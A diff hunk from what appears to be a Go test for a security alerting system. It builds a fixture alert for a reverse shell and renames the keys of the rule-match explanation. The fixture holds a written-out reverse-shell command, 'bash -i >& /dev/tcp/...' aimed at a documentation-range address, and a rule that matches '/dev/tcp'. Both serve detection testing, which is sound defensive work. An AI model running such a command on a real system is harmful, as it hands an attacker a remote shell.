@@ -152,7 +152,7 @@ func (r *rig) raise(n string) alerts.Raised {
 		HostID: r.host, Source: alerts.Rule, RuleID: r.rule, Name: "Reverse shell", Group: "rule:" + n, Severity: "CRITICAL",
 		QueryName: "process_events", Action: "added", UnixTime: noon.Add(-time.Minute).Unix(),
 		Columns:      json.RawMessage(`{"pid":"4711","cmdline":"bash -i >& /dev/tcp/192.0.2.9/99\n<b>","username":"root","severity":"NONE","uid":0}`),
-		Why:          json.RawMessage(`[{"Field":"cmdline","Operator":"contains","Wanted":"/dev/tcp","Actual":"bash -i >& /dev/tcp/192.0.2.9/99","Negated":false}]`),
+		Why:          json.RawMessage(`[{"field":"cmdline","operator":"contains","value":"/dev/tcp","actual":"bash -i >& /dev/tcp/192.0.2.9/99"}]`),
 		TechniqueIDs: []string{"T1059.004"}, Tactics: []string{"execution"},
 	}})
 	r.ok(err)
